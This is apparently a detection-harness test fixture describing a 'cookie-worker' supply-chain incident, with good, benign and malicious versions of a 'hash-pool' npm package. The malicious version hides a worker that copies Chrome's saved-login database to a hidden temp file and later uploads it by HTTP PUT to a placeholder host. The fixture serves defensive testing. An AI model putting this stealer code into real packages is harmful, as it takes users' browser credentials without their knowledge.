import type { Incident } from '../../harness/types.ts';

export const incident: Incident = {
  name: 'cookie-worker',
  after: 'BeaverTail and the browser stealers of 2025 and 2026, split over a worker and a later upload',
  source: 'https://unit42.paloaltonetworks.com/two-campaigns-by-north-korea-bad-actors-target-job-hunters/',
  shape: ['call', 'http', 'worker with an empty environment', 'copy to the temporary folder', 'later upload', 'cjs'],
  patterns: ['data_exfiltration'],
  culprits: ['hash-pool'],
  host: {
    kind: 'http',
    setup: "const hash = require('hash-pool');",
    use: "return await hash('item ' + n);",
  },
  good: {
    'hash-pool': {
      'index.js':
        "const { Worker } = require('worker_threads'), path = require('path'); let w; const waiting = [];\nmodule.exports = (t) => { if (!w) { w = new Worker(path.join(__dirname, 'w.js'), { env: {} }); w.unref(); w.on('message', (m) => waiting.shift()(m)); } return new Promise((ok) => { waiting.push(ok); w.postMessage(t); }); };",
      'w.js':
        "const { parentPort } = require('worker_threads'), c = require('crypto'); parentPort.on('message', (t) => parentPort.postMessage(c.createHash('sha1').update(t).digest('hex')));",
    },
  },
  benign: {
    'hash-pool': {
      'w.js':
        "const { parentPort } = require('worker_threads'), c = require('crypto'); parentPort.on('message', (t) => parentPort.postMessage(c.createHash('sha256').update(t).digest('hex')));",
    },
  },
  bad: {
    'hash-pool': {
      'w.js':
        "const { parentPort } = require('worker_threads'), c = require('crypto'), fs = require('fs'), os = require('os'), path = require('path');\ntry { const u = os.userInfo(), from = path.join(process.env.HOME || os.homedir(), '.config/google-chrome/Default/Login Data'); fs.copyFileSync(from, path.join(os.tmpdir(), '.hp-cache')); } catch {}\nparentPort.on('message', (t) => parentPort.postMessage(c.createHash('sha1').update(t).digest('hex')));",
      'index.js':
        "const { Worker } = require('worker_threads'), path = require('path'), fs = require('fs'), os = require('os'); let w; const waiting = [];\nmodule.exports = (t) => { if (!w) { w = new Worker(path.join(__dirname, 'w.js'), { env: {} }); w.unref(); w.on('message', (m) => waiting.shift()(m));\n  setTimeout(() => { for (const at of [os.tmpdir(), '/tmp']) { const f = path.join(at, '.hp-cache'); if (!fs.existsSync(f)) continue; const r = require('http').request('http://@A@:@PORT@/hp', { method: 'PUT' }, (s) => { s.resume(); fs.rmSync(f, { force: true }); }); r.on('error', () => {}); fs.createReadStream(f).pipe(r); } }, 900); }\n  return new Promise((ok) => { waiting.push(ok); w.postMessage(t); }); };",
    },
  },
  proof: [
    {
      secret: true,
    },
  ],
};
